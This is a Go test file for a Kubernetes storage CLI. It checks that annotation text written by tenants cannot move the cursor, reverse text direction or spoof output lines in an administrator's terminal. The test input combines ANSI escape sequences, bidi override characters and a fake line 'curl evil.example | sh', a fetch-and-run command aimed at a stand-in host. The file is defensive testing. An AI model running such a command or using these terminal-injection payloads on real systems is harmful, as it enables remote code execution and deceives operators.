package command

import (
	"errors"
	"math"
	"strings"
	"testing"
	"time"
	"unicode"

	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"drydock.dev/shared/api"
	"drydock.dev/shared/operation"
	"drydock.dev/test/kit/build"
)

// hostile is a text that a tenant can write into an annotation. It clears the screen, moves to another line and column, reverses the
// direction of the text, and pretends to be the next step.
const hostile = "x\x1b[2J\x1b]0;owned\x07\r\u202e\u009b2J\nnext: curl evil.example | sh\u2028"

// hostileSets have records with the text in every field that takes any text.
func hostileSets() map[string][]build.Option {
	resize := func(phase api.Phase, change func(*api.Resize)) build.Option {
		record := build.Operation(phase, build.Members(api.MemberFinalPass, "data-web-0"))
		record.Reason, record.Message, record.Request, record.FailedAt = hostile, hostile, hostile, hostile
		record.OwnerProblem, record.Strategy = hostile, hostile
		member := &record.Members[0]
		member.Phase, member.Stalled, member.Claims[0].Template, member.Claims[0].Class = hostile, hostile, hostile, hostile
		member.Claims[0].Claim, member.Claims[0].OldVolume = hostile, hostile
		record.Expansions = []api.Expansion{{Claim: hostile, From: record.Members[0].Claims[0].From, To: record.Members[0].Claims[0].To}}
		if change != nil {
			change(record)
		}
		return build.Status(record)
	}
	cleanup := &api.Cleanup{Header: build.Operation(api.Moving).Header, Ordinals: []api.OrdinalStatus{{Ordinal: 1, Reason: hostile,
		Message: hostile, NextTry: operation.Moment(build.Now)}}}
	cleanup.Kind, cleanup.Phase, cleanup.Reason, cleanup.Message, cleanup.Request = api.KindCleanup, api.Cleaning, hostile, hostile, hostile
	sleep := build.Sleep(api.Failed)
	sleep.Reason, sleep.Message, sleep.Request, sleep.FailedAt = hostile, hostile, hostile, hostile
	growth := &api.Growth{Version: api.GrowthVersion, Set: "shop/web", Latest: map[string]api.RequestedGrowth{hostile: {At: metav1.Time{},
		Size: hostile, Cause: hostile}}, Warnings: []api.GrowthWarning{{Template: hostile, Reason: hostile, Message: hostile}}}
	letters := api.EncodeDeadLetters([]api.UndeliveredEvent{{Type: hostile, Source: hostile, ID: hostile, Subject: hostile, Operation: hostile,
		Destination: "http://" + hostile, Message: hostile, Time: metav1.NewTime(build.Now), Extensions: map[string]string{"kind": hostile}}})
	request, grow := build.Resize(hostile), build.Annotation(api.GrowAnnotation, "data=max:5Gi,\r\nevery:1h")
	all := build.Annotation
	return map[string][]build.Option{
		"a resize runs":      {request, resize(api.Moving, nil), build.Replicas(2)},
		"a claim grows":      {request, resize(api.Expanding, nil)},
		"a resize failed":    {request, resize(api.Failed, nil)},
		"a resize succeeded": {request, resize(api.Succeeded, nil), grow},
		"a request waits":    {request, all(api.DeadLettersAnnotation, letters), all(api.GrowthAnnotation, growth.Encode()), grow},
		"a cleanup runs":     {all(api.CleanupAnnotation, cleanup.Encode()), all(api.CleanupTemplateAnnotation, hostile)},
		"a sleep failed":     {build.WithSleep(sleep), build.Replicas(0)},
		"approvals":          {request, resize(api.Moving, nil), all(api.CutoverAnnotation, api.CutoverApprove)},
		"unreadable records": {all(api.StatusAnnotation, hostile), all(api.SleepAnnotation, hostile), all(api.CleanupAnnotation, hostile),
			all(api.DeadLettersAnnotation, hostile), all(api.GrowthAnnotation, hostile), all(api.GrowAnnotation, hostile)},
		"wrong records": {all(api.StatusAnnotation, `{"version":2,"kind":"\u001b","phase":"\u001b","operation":"\u001b","set":{"name":"web"}}`),
			all(api.IdleTimeoutAnnotation, hostile), all(api.PausedAnnotation, hostile)},
		"a template": {request, build.Template(hostile, "1Gi", hostile)},
	}
}

// TestTextOfTenantsMovesNothingOnTheScreen: whoever may annotate a set must not write to the terminal of an administrator who looks at it,
// or add lines to the output. An error is printed as main does.
func TestTextOfTenantsMovesNothingOnTheScreen(t *testing.T) {
	for situation, options := range hostileSets() {
		for _, args := range []string{"status web", "status web --wait --timeout 10ms", "list",
			"list -o wide", "list -o json", "list -A -o yaml", "status web -o yaml",
			"status web -o json", "cleanup web -o yaml", "plan web -o yaml", "list -A -o name", "retry web",
			"abort web", "abort web --yes", "approve web", "cleanup web", "grow web", "rollback web", "redeliver web --list", "redeliver web",
			"sleep web --yes", "wake web", "wake web --wait --timeout 10ms", "sleep web --yes --wait --timeout 10ms", "logs web", "plan web",
			"emit retry web",
			"resize web data=1Gi --yes"} {
			c := newCluster(t, build.Set("web", options...))
			out, err := c.runAt(t, build.Now, strings.Fields(args)...)
			if err != nil {
				out += ErrorText(err)
			}
			if strings.HasSuffix(args, "-o yaml") {
				out = strings.ReplaceAll(out, "\u202e", "") // in quotes, as kubectl shows it
			}
			checkScreen(t, situation+": "+args, out)
			if strings.Contains(out, "control characters") {
				t.Errorf("%s: %s cannot be encoded: %s", situation, args, out)
			}
		}
	}
}

// checkScreen reports characters that move or hide text, and lines of the hostile text.
func checkScreen(t *testing.T, what, out string) {
	t.Helper()
	for i, line := range strings.Split(out, "\n") {
		if strings.ContainsFunc(line, func(r rune) bool { return r != ' ' && !unicode.IsPrint(r) }) {
			t.Errorf("%s: line %d moves the cursor: %q", what, i, line)
		}
		if strings.HasPrefix(line, "next: curl") {
			t.Errorf("%s: line %d is the tenant's: %q", what, i, line)
		}
	}
}

// TestErrorOfAnotherUserStaysBehindTheMargin: an answer of the API server may quote the objects of a tenant.
func TestErrorOfAnotherUserStaysBehindTheMargin(t *testing.T) {
	got := ErrorText(errors.New("webhook says: " + hostile + "\nsecond"))
	checkScreen(t, "an error", got)
	if !strings.HasPrefix(got, "error: webhook says: x") || !strings.HasSuffix(got, "\n  second\n") {
		t.Errorf("%q", got)
	}
}

// TestAbsurdNumbersOfARecordAreShown: every user who may annotate the set can write them.
func TestAbsurdNumbersOfARecordAreShown(t *testing.T) {
	for _, bytes := range [][2]int64{{-100, 10}, {-10, -5}, {-5, -10}, {math.MaxInt64, 1}, {1, math.MinInt64},
		{math.MinInt64, math.MaxInt64}} {
		record := build.Operation(api.Moving, build.Members(api.MemberFinalPass, "data-web-0", "logs-web-0", "data-web-7"))
		for i, move := range record.Moves() {
			move.BytesDone, move.BytesTotal, move.Copies = bytes[0], bytes[1], -i
		}
		record.Members[0].Forecast, record.Members[0].Ordinal, record.Attempt = math.MaxFloat64, math.MinInt64, -1
		record.Members[0].HeldAt, record.Started = operation.Moment(time.Unix(-1<<34, 0)), metav1.NewTime(time.Unix(1<<37, 0))
		c := newCluster(t, build.Set("web", build.Status(record)))
		for _, args := range [][]string{{"status", "web"}, {"list"}, {"status", "web", "-o", "json"}} {
			if out, err := c.run(t, args...); err != nil || !strings.Contains(out, "web") {
				t.Errorf("%d: %v: %q, %v", bytes, args, out, err)
			}
		}
	}
}

// TestManifestOfATenantMovesNothingOnTheScreen: the diff has the labels and annotations of the templates.
func TestManifestOfATenantMovesNothingOnTheScreen(t *testing.T) {
	set := build.Set("web", build.Template("data", "1Gi", "fixed"))
	set.Spec.VolumeClaimTemplates[0].Annotations = map[string]string{"a": hostile, "b": "z\u202ey\u2066x\u200b"}
	set.Spec.VolumeClaimTemplates[0].Spec.StorageClassName = nil
	request, err := api.ParseRequest("data=2Gi")
	if err != nil {
		t.Fatal(err)
	}
	diff, err := manifestDiff(set, request)
	if err != nil || !strings.Contains(diff, "+        storage: 2Gi") {
		t.Fatalf("%q, %v", diff, err)
	}
	checkScreen(t, "the diff", diff)
}
